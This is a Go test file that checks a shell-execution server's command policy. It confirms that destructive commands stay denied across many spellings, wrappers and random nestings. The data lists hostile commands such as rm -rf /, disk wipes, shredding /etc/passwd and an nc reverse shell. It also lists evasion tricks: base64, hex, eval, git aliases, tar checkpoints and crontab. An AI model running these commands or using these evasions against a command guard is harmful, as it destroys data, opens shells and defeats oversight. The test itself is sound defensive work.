package policy_test

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/multiollama/mcp-server/shell-exec/internal/policy"
)

// cores must be refused however they are written.
var cores = []string{
	"rm -rf /", "rm -rf /*", "rm -rf ~", "rm -fr $HOME/", "rm -r --force /etc", "rm -rf /usr/lib", "rm -rf .git", "rm -rf ../..",
	"chmod -R 777 /", "chown -R nobody /etc", "mv /etc /tmp/x", "find / -delete", "find /home -exec rm -rf {} +", "shred -u /etc/passwd",
	"shutdown -h now", "reboot", "poweroff -f", "halt", "systemctl poweroff", "init 0", "kill -9 -1", "mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sda",
	"dd if=/dev/zero of=/dev/sda bs=1M", "wipefs -a /dev/sda", "cp /dev/null /dev/nvme0n1", "tee /etc/passwd", "cp x /etc/sudoers",
	"nc -e /bin/sh 10.0.0.1 99", "ln -sf x /bin/sh", "rsync -a --delete empty/ /", "truncate -s 0 /etc/passwd",
}

func quoteAll(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func name(core string) (string, string) {
	program, rest, _ := strings.Cut(core, " ")
	return program, rest
}

func ansi(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, `\x%02x`, s[i])
	}
	return b.String()
}

func reverse(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

// spellings write a core's program in other ways.
var spellings = map[string]func(p, rest string) string{
	"single quotes":   func(p, rest string) string { return "'" + p + "' " + rest },
	"double quotes":   func(p, rest string) string { return `"` + p + `" ` + rest },
	"split quotes":    func(p, rest string) string { return p[:1] + `''"` + p[1:] + `" ` + rest },
	"a backslash":     func(p, rest string) string { return `\` + p + " " + rest },
	"inner backslash": func(p, rest string) string { return p[:1] + `\` + p[1:] + " " + rest },
	"ANSI-C":          func(p, rest string) string { return "$'" + ansi(p) + "' " + rest },
	"octal":           func(p, rest string) string { return fmt.Sprintf(`$'\%03o%s' %s`, p[0], p[1:], rest) },
	"a path":          func(p, rest string) string { return "/bin/" + p + " " + rest },
	"another path":    func(p, rest string) string { return "/usr/../usr//sbin/" + p + " " + rest },
	"continued":       func(p, rest string) string { return p[:1] + "\\\n" + p[1:] + " \\\n " + rest },
	"a variable":      func(p, rest string) string { return "c=" + p + "; $c " + rest },
	"two variables":   func(p, rest string) string { return "a=" + p[:1] + " b=" + p[1:] + "; ${a}$b " + rest },
	"a slice":         func(p, rest string) string { return "v=xx" + p + "yy; ${v:2:" + fmt.Sprint(len(p)) + "} " + rest },
	"a default":       func(p, rest string) string { return "${nothing:-" + p + "} " + rest },
	"an array": func(p, rest string) string {
		return "a=(" + p + " " + strings.ReplaceAll(rest, "{}", "'{}'") + `); "${a[@]}"`
	},
	"positional":     func(p, rest string) string { return "set -- " + p + " " + rest + `; "$@"` },
	"a substitution": func(p, rest string) string { return "$(echo " + p + ") " + rest },
	"backticks":      func(p, rest string) string { return "`printf %s " + p + "` " + rest },
	"empty params":   func(p, rest string) string { return p[:1] + "$@" + p[1:] + "$nothing " + rest },
	"upper and back": func(p, rest string) string { return "c=" + strings.ToUpper(p) + "; ${c,,} " + rest },
	"reads":          func(p, rest string) string { return "read c <<< " + p + "; $c " + rest },
	"printf -v":      func(p, rest string) string { return "printf -v c %s " + p + "; $c " + rest },
}

// wrappers put a core into something that runs it.
var wrappers = map[string]func(core string) string{
	"alone":              func(c string) string { return c },
	"after a semicolon":  func(c string) string { return "ls; " + c },
	"after a newline":    func(c string) string { return "ls\n" + c },
	"after and":          func(c string) string { return "true && " + c },
	"after or":           func(c string) string { return "false || " + c },
	"in the background":  func(c string) string { return c + " &" },
	"after background":   func(c string) string { return "sleep 1 & " + c },
	"in a pipe":          func(c string) string { return "yes | " + c },
	"at a pipe's start":  func(c string) string { return c + " | cat" },
	"in a subshell":      func(c string) string { return "(" + c + ")" },
	"in a group":         func(c string) string { return "{ " + c + "; }" },
	"negated":            func(c string) string { return "! " + c },
	"timed":              func(c string) string { return "time -p " + c },
	"timed with dashes":  func(c string) string { return "time -- " + c },
	"in if":              func(c string) string { return "if test -d x; then " + c + "; fi" },
	"as a condition":     func(c string) string { return "if " + c + "; then :; fi" },
	"in else":            func(c string) string { return "if false; then :; else " + c + "; fi" },
	"in for":             func(c string) string { return "for i in 1 2; do " + c + "; done" },
	"in while":           func(c string) string { return "while true; do " + c + "; done" },
	"in case":            func(c string) string { return "case x in x) " + c + ";; esac" },
	"in a function":      func(c string) string { return "f() { " + c + "; }; f" },
	"uncalled function":  func(c string) string { return "f() { " + c + "; }" },
	"named like ls":      func(c string) string { return "ls() { " + c + "; }; ls" },
	"in a substitution":  func(c string) string { return "echo $(" + c + ")" },
	"quoted":             func(c string) string { return `echo "x $(` + c + `) y"` },
	"in backticks":       func(c string) string { return "echo `" + c + "`" },
	"in an assignment":   func(c string) string { return "x=$(" + c + ")" },
	"in a default":       func(c string) string { return "echo ${x:-$(" + c + ")}" },
	"in arithmetic":      func(c string) string { return "echo $(( $(" + c + ") + 1 ))" },
	"in a process":       func(c string) string { return "diff <(" + c + ") <(true)" },
	"in a here-document": func(c string) string { return "cat <<E\n$(" + c + ")\nE" },
	"after a comment":    func(c string) string { return "ls # x \\\n" + c },
	"assignment before":  func(c string) string { return "A=1 B=2 " + c },
	"redirect before":    func(c string) string { return ">/dev/null 2>&1 " + c },
	"redirect after":     func(c string) string { return c + " >/dev/null 2>&1" },
	"glued to >&-":       func(c string) string { return ">&- " + c },
	"sudo":               func(c string) string { return "sudo -u root -E " + c },
	"sudo env":           func(c string) string { return "sudo env X=1 " + c },
	"doas":               func(c string) string { return "doas " + c },
	"su":                 func(c string) string { return "su root -c " + quoteAll(c) },
	"env":                func(c string) string { return "env -i PATH=/bin " + c },
	"env -S":             func(c string) string { return "env -S " + quoteAll(c) },
	"nice nohup":         func(c string) string { return "nice -n 5 nohup " + c },
	"timeout":            func(c string) string { return "timeout -k 5 10 " + c },
	"stdbuf":             func(c string) string { return "stdbuf -oL " + c },
	"setsid":             func(c string) string { return "setsid -f " + c },
	"command":            func(c string) string { return "command " + c },
	"builtin command":    func(c string) string { return "builtin command " + c },
	"exec":               func(c string) string { return "exec " + c },
	"flock":              func(c string) string { return "flock /tmp/l " + c },
	"strace":             func(c string) string { return "strace -f -o /tmp/o " + c },
	"watch":              func(c string) string { return "watch -n1 " + quoteAll(c) },
	"xargs":              func(c string) string { return "echo | xargs " + c },
	"xargs sh":           func(c string) string { return "echo x | xargs -I@@ sh -c " + quoteAll(c) },
	"find -exec":         func(c string) string { return `find . -maxdepth 0 -exec sh -c ` + quoteAll(c) + ` \;` },
	"parallel":           func(c string) string { return "parallel ::: " + quoteAll(c) },
	"ssh":                func(c string) string { return "ssh h " + quoteAll(c) },
	"script -c":          func(c string) string { return "script -qc " + quoteAll(c) + " /dev/null" },
	"sh -c":              func(c string) string { return "sh -c " + quoteAll(c) },
	"bash -lc":           func(c string) string { return "bash -lc " + quoteAll("cd src; "+c) },
	"nested shells":      func(c string) string { return "bash -c " + quoteAll("sh -c "+quoteAll("eval "+quoteAll(c))) },
	"eval":               func(c string) string { return "eval " + quoteAll(c) },
	"eval of echo":       func(c string) string { return `eval "$(echo ` + quoteAll(c) + `)"` },
	"source a process":   func(c string) string { return "source <(echo " + quoteAll(c) + ")" },
	"dot of stdin":       func(c string) string { return ". /dev/stdin <<< " + quoteAll(c) },
	"here-string":        func(c string) string { return "bash <<< " + quoteAll(c) },
	"here-document":      func(c string) string { return "bash <<'E'\n" + c + "\nE" },
	"document in a pipe": func(c string) string { return "cat <<'E' | sh -s\n" + c + "\nE" },
	"echo to sh":         func(c string) string { return "echo " + quoteAll(c) + " | sh" },
	"printf to bash":     func(c string) string { return "printf '%s\\n' " + quoteAll(c) + " | tee /dev/null | bash" },
	"base64": func(c string) string {
		return "echo " + base64.StdEncoding.EncodeToString([]byte(c)) + " | base64 -d | sh"
	},
	"base64 in eval": func(c string) string {
		return `eval "$(base64 --decode <<< ` + base64.StdEncoding.EncodeToString([]byte(c)) + `)"`
	},
	"base64 in bash -c": func(c string) string {
		return `bash -c "$(echo ` + base64.StdEncoding.EncodeToString([]byte(c)) + ` | base64 -d)"`
	},
	"hex":              func(c string) string { return "echo " + hex.EncodeToString([]byte(c)) + " | xxd -r -p | bash" },
	"escapes":          func(c string) string { return "printf '" + ansi(c) + "' | sh" },
	"rev":              func(c string) string { return "echo " + quoteAll(reverse(c)) + " | rev | sh" },
	"a script":         func(c string) string { return "echo " + quoteAll(c) + " > x.sh; sh x.sh" },
	"a script run":     func(c string) string { return "cat > x.sh <<'E'\n" + c + "\nE\nchmod +x x.sh\n./x.sh" },
	"a script by tee":  func(c string) string { return "echo " + quoteAll(c) + " | tee x.sh; bash ./x.sh" },
	"a script sourced": func(c string) string { return "echo " + quoteAll(c) + " >> x.sh && . ./x.sh" },
	"trap":             func(c string) string { return "trap " + quoteAll(c) + " EXIT" },
	"PROMPT_COMMAND":   func(c string) string { return "export PROMPT_COMMAND=" + quoteAll(c) },
	"GIT_SSH_COMMAND":  func(c string) string { return "GIT_SSH_COMMAND=" + quoteAll(c) + " git fetch" },
	"PAGER":            func(c string) string { return "PAGER=" + quoteAll(c) + " git log" },
	"git alias":        func(c string) string { return "git -c alias.x=" + quoteAll("!"+c) + " x" },
	"git pager":        func(c string) string { return "git -c core.pager=" + quoteAll(c) + " -p log" },
	"git rebase":       func(c string) string { return "git rebase --exec " + quoteAll(c) + " HEAD~1" },
	"git bisect":       func(c string) string { return "git bisect run sh -c " + quoteAll(c) },
	"git foreach":      func(c string) string { return "git submodule foreach " + quoteAll(c) },
	"make": func(c string) string {
		return "make --eval " + quoteAll("x: ; "+strings.ReplaceAll(c, "$", "$$")) + " x"
	},
	"npm exec":          func(c string) string { return "npm exec -c " + quoteAll(c) },
	"npx":               func(c string) string { return "npx -c " + quoteAll(c) },
	"tar":               func(c string) string { return "tar xf a.tar --to-command=" + quoteAll(c) },
	"tar checkpoint":    func(c string) string { return "tar cf a.tar . --checkpoint=1 --checkpoint-action=exec=" + quoteAll(c) },
	"rsync -e":          func(c string) string { return "rsync -e " + quoteAll(c) + " a b" },
	"vim":               func(c string) string { return "vim -c " + quoteAll("!"+c) + " -c q" },
	"gdb":               func(c string) string { return "gdb -batch -ex " + quoteAll("shell "+c) },
	"split":             func(c string) string { return "split --filter=" + quoteAll(c) + " f" },
	"crontab":           func(c string) string { return "echo " + quoteAll("* * * * * "+c) + " | crontab -" },
	"at":                func(c string) string { return "echo " + quoteAll(c) + " | at now" },
	"mapfile":           func(c string) string { return "mapfile -C " + quoteAll(c) + " -c 1 < f" },
	"a long run before": func(c string) string { return strings.Repeat("true; ", 200) + c },
}

func TestEveryDangerousCoreIsRefusedHoweverItIsSpelled(t *testing.T) {
	p := preset(t, "development")
	tried, refused := 0, 0
	for how, spell := range spellings {
		for _, core := range cores {
			text := spell(name(core))
			d := p.Judge(script(text))
			tried++
			switch d.Verdict() {
			case policy.Deny:
				refused++
			case policy.Allow:
				t.Errorf("%s: %q is allowed", how, text)
			default:
				t.Logf("%s: %q is only asked", how, text)
			}
		}
	}
	if tried < 600 || refused*100 < tried*97 {
		t.Errorf("%d of %d refused", refused, tried)
	}
}

func TestEveryDangerousCoreIsRefusedWhateverWrapsIt(t *testing.T) {
	p := preset(t, "development")
	tried, refused := 0, 0
	for how, wrap := range wrappers {
		for _, core := range cores {
			text := wrap(core)
			d := p.Judge(script(text))
			tried++
			switch d.Verdict() {
			case policy.Deny:
				refused++
			case policy.Allow:
				t.Errorf("%s: %q is allowed", how, text)
			default:
				t.Logf("%s: %q is only asked", how, text)
			}
		}
	}
	if tried < 3000 || refused*100 < tried*97 {
		t.Errorf("%d of %d refused", refused, tried)
	}
}

// A spelling inside a wrapper inside a wrapper, a few thousand of them by chance.
func TestNoCombinationIsAllowed(t *testing.T) {
	p := preset(t, "development")
	random := rand.New(rand.NewPCG(1, 2))
	pick := func(m []string) string { return m[random.IntN(len(m))] }
	spelled, wrapped := slices.Sorted(maps.Keys(spellings)), slices.Sorted(maps.Keys(wrappers))
	// Backticks do not nest, and a function that a nested shell never calls does nothing.
	wrapped = slices.DeleteFunc(wrapped, func(w string) bool { return w == "in backticks" || w == "uncalled function" })
	for range 5000 {
		how, inner, outer := pick(spelled), pick(wrapped), pick(wrapped)
		text := spellings[how](name(pick(cores)))
		for _, w := range []string{inner, outer} {
			text = wrappers[w]("bash -c " + quoteAll(text))
		}
		if d := p.Judge(script(text)); d.Verdict() == policy.Allow {
			t.Errorf("%s in %s in %s: %q is allowed\n%s", how, inner, outer, text, d.Explain())
		}
	}
}
